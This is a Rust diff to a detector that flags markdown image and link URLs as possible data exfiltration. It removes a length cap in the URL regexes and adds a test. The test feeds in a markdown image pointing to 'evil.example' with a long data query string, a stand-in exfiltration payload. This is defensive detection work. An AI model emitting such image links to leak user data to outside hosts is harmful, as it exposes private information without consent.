@@ -444,14 +444,12 @@ impl Detectors {
             LinkRule {
                 rule: img,
                 regex: fixed(
-                    r#"!\[[^\]\n]{0,200}\]\(\s*<?(?P<url>https?://[^\s)>]{1,2000})|(?i:<img)\b[^>]{0,200}?\b(?i:src)\s*=\s*["']?(?P<url2>https?://[^\s"'>]{1,2000})"#,
+                    r#"!\[[^\]\n]{0,200}\]\(\s*<?(?P<url>https?://[^\s)>]+)|(?i:<img)\b[^>]{0,200}?\b(?i:src)\s*=\s*["']?(?P<url2>https?://[^\s"'>]+)"#,
                 )?,
             },
             LinkRule {
                 rule: link,
-                regex: fixed(
-                    r"(?:^|[^!])\[[^\]\n]{0,200}\]\(\s*<?(?P<url>https?://[^\s)>]{1,2000})",
-                )?,
+                regex: fixed(r"(?:^|[^!])\[[^\]\n]{0,200}\]\(\s*<?(?P<url>https?://[^\s)>]+)")?,
             },
         ];
 
@@ -1133,6 +1131,14 @@ mod tests {
             ["exfil.markdown-image"]
         );
         assert!(ids(&d, "![logo](https://example.com/logo.png)", set).is_empty());
+        // a URL of any length is found whole (the span that redaction replaces)
+        let long = format!("![x](https://evil.example/p?d={})", "A".repeat(5000));
+        let mut hits = Vec::new();
+        d.scan(&long, set, &mut Normalizer::new(), &mut hits);
+        assert_eq!(
+            hits.iter().map(|h| (h.start, h.end)).collect::<Vec<_>>(),
+            [(5, long.len() - 1)]
+        );
         let allow = Detectors::compile(&DetectorSettings {
             link_allowlist: vec!["evil.example".into()],
             ..Default::default()
